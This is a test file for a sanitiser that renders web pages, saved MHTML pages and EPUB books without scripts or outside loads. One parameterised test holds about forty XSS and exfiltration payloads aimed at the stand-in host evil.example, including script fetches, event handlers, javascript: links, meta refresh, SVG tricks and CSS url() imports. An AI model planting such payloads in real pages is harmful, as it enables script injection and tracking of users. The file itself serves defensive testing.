import { parse } from 'parse5';
import { describe, expect, it } from 'vitest';
import type { SourceKind } from '../../core/model/source';
import { elementsBelow, textBelow } from '../html-tree';
import { epubBytes } from '../test-documents';
import { publishedLook } from './published-look';

const DOT = Uint8Array.from([0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 1, 0, 1, 0, 0, 0, 0, 0x3b]);
const DOT_BASE64 = Buffer.from(DOT).toString('base64');
const encoded = (text: string) => new TextEncoder().encode(text);
const lookOf = async (kind: SourceKind, bytes: Uint8Array<ArrayBuffer>, part = 0) => {
  const look = await publishedLook(kind, bytes, part, undefined);
  if (!look.ok) throw new Error(look.failure.message);
  return { ...look.value, html: new TextDecoder().decode(look.value.document) };
};
const htmlLook = async (source: string) => (await lookOf('html', encoded(source))).html;

describe('the look of a web page', () => {
  it('keeps its elements, classes and style sheets', async () => {
    const html = await htmlLook(
      '<!DOCTYPE html><html lang="en" class="wide"><head><style>p{color:red}</style></head><body class="a"><p class="b" style="margin: 0"><b>Bold</b> &lt;words&gt;</p><style media="screen">i{top:0}</style></body></html>',
    );
    expect(html).toMatch(/^<!DOCTYPE html><html lang="en" class="wide">/u);
    expect(html).toContain('<style>p{color:red}</style>');
    expect(html).toContain('<body class="a"><p class="b" style="margin: 0"><b>Bold</b> &lt;words&gt;</p>');
    expect(html).toContain('<style media="screen">i{top:0}</style>');
  });

  it('is laid out as in the old days where the page was', async () => {
    expect(await htmlLook('<p>Old')).not.toContain('DOCTYPE');
  });

  it('keeps pictures and drawings that stand in the page', async () => {
    const html = await htmlLook(
      `<img src="data:image/gif;base64,${DOT_BASE64}" alt="Dot" onload="x()"><svg viewBox="0 0 1 1"><title>Box</title><path d="M0 0h1" fill="url(#g)" onclick="x()"></path><use xlink:href="#a"></use></svg>`,
    );
    expect(html).toContain(`<img alt="Dot" src="data:image/gif;base64,${DOT_BASE64}">`);
    expect(html).toContain(
      '<svg viewbox="0 0 1 1"><title>Box</title><path d="M0 0h1" fill="url(&quot;#g&quot;)"></path><use href="#a"></use></svg>',
    );
  });

  it('keeps links within the page, and makes others inert', async () => {
    const html = await htmlLook('<a href="#n" name="t">down</a> <a href="https://evil.example/">out</a>');
    expect(html).toContain('<a href="#n" name="t">down</a> <a>out</a>');
  });

  it.each([
    '<script>fetch("https://evil.example/")</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<img src="https://evil.example/x.png">',
    '<img srcset="https://evil.example/x.png 2x">',
    '<img src="//evil.example/x.png">',
    '<picture><source srcset="https://evil.example/x"><img src="data:,"></picture>',
    '<body onload="location=`https://evil.example/`">',
    '<p onclick="evil.example" ONMOUSEOVER=evil.example>x',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="dns-prefetch" href="https://evil.example/">',
    '<link rel="preconnect" href="https://evil.example/">',
    '<form action="https://evil.example/"><button formaction="https://evil.example/">Go</button></form>',
    '<object data="https://evil.example/x"></object>',
    '<embed src="https://evil.example/x">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>evil.example</script>"></iframe>',
    '<video src="https://evil.example/x" poster="https://evil.example/y"></video>',
    '<audio src="https://evil.example/x"></audio>',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<style>@import "https://evil.example/x"; a{background:url(https://evil.example/y)}</style>',
    '<style>a{}</style\n><script>evil.example</script>',
    '<a href="https://evil.example/" ping="https://evil.example/">x</a>',
    '<a href="javascript:evil.example">x</a>',
    '<svg><script>evil.example</script><image href="https://evil.example/x"/></svg>',
    '<svg><use href="https://evil.example/x#a"/><a xlink:href="https://evil.example/">x</a></svg>',
    '<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
    '<svg><set attributeName="href" to="https://evil.example/"/><animate values="https://evil.example/"/></svg>',
    '<svg><rect fill="url(https://evil.example/x#a)" filter="u\\72l(https://evil.example/y)"/></svg>',
    '<math><maction xlink:href="https://evil.example/">x</maction></math>',
    '<noscript><img src="https://evil.example/x"></noscript>',
    '<template><img src="https://evil.example/x"></template>',
    '<div><template shadowrootmode="open"><img src="https://evil.example/x" onerror="evil.example"></template></div>',
    '<img src="data:text/html,evil.example">',
    '<input type="image" src="https://evil.example/x">',
    '<body background="https://evil.example/x">',
    '<html manifest="https://evil.example/x">',
    '<portal src="https://evil.example/"></portal>',
    '<xml><o:p src="https://evil.example/x">x</o:p></xml>',
  ])('lets nothing out: %s', async (source) => {
    const html = await htmlLook(source);
    expect(html).not.toContain('evil.example');
    for (const { tagName, attrs } of elementsBelow(parse(html))) {
      expect(['script', 'iframe', 'object', 'embed', 'form', 'link', 'base', 'noscript']).not.toContain(
        tagName,
      );
      for (const { name } of attrs) expect(name).not.toMatch(/^on/u);
    }
  });

  it('shows the controls of a form, and none that can be used', async () => {
    const html = await htmlLook(
      '<form><input name="q" value="grain"><button type="submit">Find</button></form>',
    );
    expect(html).toContain(
      '<div><input name="q" value="grain" disabled=""><button type="submit" disabled="">Find</button></div>',
    );
  });

  it('keeps the words of elements it does not know, however deep', async () => {
    const html = await htmlLook(`${'<x-y>'.repeat(3000)}<blink>deep</blink>`);
    expect(textBelow(parse(html))).toContain('deep');
  });
});

describe('the look of a page saved with its pictures', () => {
  it('finds them among the parts', async () => {
    const part = (type: string, place: string, content: string) =>
      `--b\r\nContent-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\nContent-Location: ${place}\r\n\r\n${Buffer.from(content, 'binary').toString('base64')}\r\n`;
    const mhtml = [
      'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n',
      part(
        'text/html',
        'https://post.example/a/page.html',
        '<link rel="stylesheet" href="../style.css"><img src="dot.gif"><img src="https://post.example/gone.gif">',
      ),
      part('text/css', 'https://post.example/style.css', 'p{background:url(a/dot.gif)}'),
      part('image/gif', 'https://post.example/a/dot.gif', Buffer.from(DOT).toString('binary')),
      '--b--\r\n',
    ].join('');
    const { html } = await lookOf('mhtml', encoded(mhtml));
    expect(html).toContain(`p{background:url("data:image/gif;base64,${DOT_BASE64}")}`);
    expect(html).toContain(`<img src="data:image/gif;base64,${DOT_BASE64}"><img>`);
    expect(html).not.toContain('post.example');
  });
});

describe('the look of a book', () => {
  const book = epubBytes(
    ['<link rel="stylesheet" href="s/book.css"/><p class="x">One <img src="s/dot.gif"/></p>', '<p>Two</p>'],
    {
      manifest: '<item id="nav" href="nav.xhtml" properties="nav"/>',
      more: {
        'OEBPS/nav.xhtml':
          '<html><body><nav><ol><li><a href="c1.xhtml">First</a></li><li><a href="c2.xhtml#x">Second</a></li></ol></nav></body></html>',
        'OEBPS/s/book.css': '@import "deep.css";.x{margin:0}',
        'OEBPS/s/deep.css': 'img{content:url(dot.gif)} @import "book.css";',
        'OEBPS/s/dot.gif': DOT,
      },
    },
  );

  it('is given chapter by chapter, with its own style sheets and pictures', async () => {
    const first = await lookOf('epub', book);
    expect(first.parts).toEqual(['First', 'Second']);
    expect(first.html).toContain(`img{content:url("data:image/gif;base64,${DOT_BASE64}")}`);
    expect(first.html).toContain('.x{margin:0}');
    expect(first.html).toContain(`<p class="x">One <img src="data:image/gif;base64,${DOT_BASE64}"></p>`);
    expect((await lookOf('epub', book, 1)).html).toContain('<p>Two</p>');
  });

  it('ends although its style sheets import one another without end', async () => {
    const sheet = '@import "a.css";'.repeat(20);
    const endless = epubBytes(['<link rel="stylesheet" href="a.css"/><p>Words</p>'], {
      more: { 'OEBPS/a.css': sheet },
    });
    expect((await lookOf('epub', endless)).html).toContain('<p>Words</p>');
  });

  it('says so when a chapter is not there', async () => {
    const look = await publishedLook('epub', book, 2, undefined);
    expect(look).toMatchObject({ ok: false, failure: { kind: 'unreadable' } });
  });
});
